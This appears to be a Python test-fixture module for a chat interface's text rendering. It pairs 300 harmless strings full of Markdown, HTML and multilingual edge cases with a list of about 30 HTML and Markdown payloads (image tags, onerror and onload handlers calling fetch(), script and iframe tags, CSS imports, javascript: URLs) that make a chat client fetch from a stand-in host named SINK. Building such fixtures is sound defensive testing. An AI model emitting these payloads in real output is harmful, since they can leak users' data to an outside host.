"""Texts as they stand in records and as attackers write them, for whoever shows text."""

import json
from pathlib import Path

_NAMES = ["O'Neill & Søn", "李雷", "Müller GmbH", "شركة النور", "Peña {Logística}"]
_FORMS = """
{} asked: is a < b and c > d for 5 <= n?
R&D at {} costs &euro;5 &amp; more
{} writes C++, C# and F#, not <html>
*5 stars* from {}
**bold claim** by {}
_{}_ said __init__ is fine
`{}` in `code`
~~old~~ price for {}
# 1 choice: {}
## {}
- {} first
+ {} plus
* {} star
1. {} is number one
2) {} is second
> {} quoted this
| {} | 12 | 3 |
--- {} ---
===== {} =====
    {} indented
[{}] in brackets
[{}](not a link
![{}] not an image
{} <info@example.com>
<{}>
{} 😀 👩‍👩‍👧 🇪🇸 ✔️
{} 10 % — “quoted” … ‘single’
{} costs $5 and $6, not $x^2$
{} \\(x\\) \\[y\\] \\* \\_ \\\\ back\\slash
{} http://example.com/?a=1&b=2
https://example.com/{}
www.example.com {}
mailto:{}@example.com
javascript:{}
{} said: "call me"; I'll do it
{}: 50/50, 3*4*5, 2^8, a_b_c
{}\tafter a tab
{} £1.250,00 / €1’250.00
{} (see #42, @anna, !important)
{} &lt;b&gt;not bold&lt;/b&gt;
&nbsp;{}&nbsp;
&#60;{}&#x3e;
{} {{{{curly}}}} ${{dollar}} %s %(x)s {{x}}
C:\\Users\\{}\\file.txt
SELECT * FROM leads WHERE name='{}';
{} -- comment /* c */ // d
=SUM(A1:A9) {}
{} ¿qué? ¡sí! ñandú
{} 价格是多少？（含税）《合同》
{} السعر؟ ١٢٣
{} שלום
{} ขอบคุณ
{} नमस्ते
{}: first line / second line
~{}~ ^{}^ =={}==
<!-- {} -->
</div>{}</span>
{} <br> and <hr/>
:smile: {} :+1:
{} ... !? ;-) <3 </3
""".strip("\n").split("\n")

# 300 lines that mean no harm and hold everything that Markdown and HTML take for markup.
BENIGN = [form.replace("{}", name) for form in _FORMS for name in _NAMES]

# What made a stock chat fetch from another host; SINK stands for that host.
_FETCHING = """
![a](http://SINK/1.png)
![a][r]¶[r]: http://SINK/2.png
<img src="http://SINK/3.png">
<img src=x onerror="fetch('http://SINK/4')">
<picture><source srcset="http://SINK/5.png"><img></picture>
<video src="http://SINK/6.mp4" poster="http://SINK/6.png" autoplay></video>
<audio src="http://SINK/7.mp3" autoplay></audio>
<svg><image href="http://SINK/8.png" xlink:href="http://SINK/8b.png"/></svg>
<input type="image" src="http://SINK/9.png">
<div style="background:url(http://SINK/10.png)">x</div>
<table background="http://SINK/11.png"><tr><td>x</td></tr></table>
<iframe src="http://SINK/12"></iframe><object data="http://SINK/13"></object><embed src="http://SINK/14">
<link rel="stylesheet" href="http://SINK/15.css"><style>@import "http://SINK/16.css";</style>
<script src="http://SINK/17.js"></script><script>fetch('http://SINK/18')</script>
<a href="http://SINK/19" ping="http://SINK/20">x</a> [x](http://SINK/21) <http://SINK/22>
<svg/onload="fetch('http://SINK/23')"><body onload="fetch('http://SINK/24')">
<base href="http://SINK/"><meta http-equiv="refresh" content="0;url=http://SINK/25">
![p](/gradio_api/file=http://SINK/26.png) <img src="/gradio_api/proxy=http://SINK/27.png">
<details ontoggle="fetch('http://SINK/28')" open><summary>x</summary></details>
<math href="javascript:fetch('http://SINK/29')">x</math> $\\href{http://SINK/30}{x}$
""".strip("\n").split("\n")
FETCHING = [text.replace("¶", "\n\n") for text in _FETCHING]


def injections(data: Path) -> list[str]:
    """The published injection strings of the data folder."""
    lines = (data / "injections" / "dev.jsonl").read_text(encoding="utf-8").splitlines()
    return [json.loads(line)["text"] for line in lines]
